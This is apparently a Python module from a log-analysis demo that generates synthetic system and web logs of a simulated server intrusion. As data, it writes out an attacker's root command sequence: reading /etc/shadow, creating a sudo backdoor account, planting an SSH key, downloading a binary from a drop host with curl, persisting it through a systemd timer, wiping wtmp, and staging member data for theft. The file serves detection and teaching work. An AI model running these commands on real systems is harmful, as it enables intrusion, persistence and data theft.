"""The one guess that was right, and what was done with it."""

from logai_core.demo.intrusion.fields import DROP, GUESSER
from logai_core.demo.intrusion.speakers import (
    KERNEL,
    SYSTEMD,
    access,
    auth,
    daemon,
    session,
    sudo,
)
from logai_core.demo.intrusion.times import (
    LOGIN,
    LOGOUT,
    RETURN,
    RETURN_END,
    SUDO,
    SUDO_END,
    TAKEN,
    every,
)
from logai_core.demo.model import Say, Timed, kind
from logai_core.demo.timing import seconds

_HOME, _DOOR = "/home/reports", "svc-health"
# What was run as root, and how many seconds after the first of them.
_COMMANDS = (
    ("/usr/bin/id", 0),
    ("/usr/bin/cat /etc/shadow", 31),
    (f"/usr/sbin/useradd -m -s /bin/bash -G sudo {_DOOR}", 94),
    ("/usr/sbin/chpasswd", 118),
    ("/usr/bin/mkdir -p /root/.ssh", 171),
    ("/usr/bin/tee -a /root/.ssh/authorized_keys", 188),
    (f"/usr/bin/curl -fsS http://{DROP}/h -o /usr/local/bin/{_DOOR}", 243),
    (f"/usr/bin/chmod 755 /usr/local/bin/{_DOOR}", 262),
    (f"/usr/bin/tee /etc/systemd/system/{_DOOR}.service", 318),
    (f"/usr/bin/tee /etc/systemd/system/{_DOOR}.timer", 361),
    ("/usr/bin/systemctl daemon-reload", 402),
    (f"/usr/bin/systemctl enable --now {_DOOR}.timer", 431),
    ("/usr/bin/truncate -s 0 /var/log/wtmp", 540),
    ("/usr/bin/tar czf /srv/site/assets/a.tar.gz /srv/site/members", 1_412),
    ("/usr/bin/rm /srv/site/assets/a.tar.gz", 1_905),
)
_LOGGED_IN = kind(
    *session("reports", f"Accepted password for reports from {GUESSER} port 51022 ssh2",
             lasts=seconds(LOGOUT - LOGIN)),
    access("GET /", 200, client=GUESSER, agent="curl/8.5.0", size="8412", after=101),
)  # fmt: skip


def _commands() -> list[Say]:
    return [
        say
        for command, after in _COMMANDS
        for say in sudo("reports", _HOME, command, after=after, terminal="pts/1")
    ]


_ESCALATED = kind(
    *_commands(),
    auth("useradd", f"new group: name={_DOOR}, GID=1004", after=94.3),
    auth("useradd", f"new user: name={_DOOR}, UID=1004, GID=1004, home=/home/{_DOOR}, "
         "shell=/bin/bash, from=/dev/pts/1", after=94.3),
    auth("useradd", f"add '{_DOOR}' to group 'sudo'", after=94.4),
    auth("chpasswd", f"pam_unix(chpasswd:chauthtok): password changed for {_DOOR}",
         after=118.2),
    daemon(SYSTEMD, "Reloading requested from client PID {packet} ('systemctl')...",
           after=402.1),
    daemon(SYSTEMD, f"Started {_DOOR}.timer - Health report.", after=431.2),
)  # fmt: skip
_TAKEN = kind(
    access("GET /assets/a.tar.gz", 200, client=GUESSER, agent="curl/8.5.0",
           size="48211967"),
    access("GET /assets/a.tar.gz", 206, client=GUESSER, agent="curl/8.5.0",
           size="12582912", after=94),
)  # fmt: skip
_RETURNED = kind(
    *session(_DOOR, f"Accepted password for {_DOOR} from {GUESSER} port 40418 ssh2",
             lasts=seconds(RETURN_END - RETURN)),
    *sudo(_DOOR, f"/home/{_DOOR}", "/usr/bin/ls -la /srv/site/members", after=44,
          terminal="pts/1"),
)  # fmt: skip
_REPORTED = kind(
    daemon(SYSTEMD, f"Starting {_DOOR}.service - Health report..."),
    daemon(KERNEL, f"[UFW BLOCK] IN= OUT=eth0 SRC=192.0.2.30 DST={DROP} LEN=60 TOS=0x00 "
           "PREC=0x00 TTL=64 ID={packet} DF PROTO=TCP SPT={port} DPT=4444 WINDOW=64240 "
           "RES=0x00 SYN URGP=0", after=0.2),
    daemon(SYSTEMD, f"{_DOOR}.service: Deactivated successfully.", after=3.1),
    daemon(SYSTEMD, f"Finished {_DOOR}.service - Health report.", after=3.11),
)  # fmt: skip

ATTACK = (
    Timed(_LOGGED_IN, (seconds(LOGIN),)),
    Timed(_ESCALATED, (seconds(SUDO),)),
    Timed(_TAKEN, (seconds(TAKEN),)),
    Timed(_REPORTED, every(300, SUDO_END)),
    Timed(_RETURNED, (seconds(RETURN),)),
)
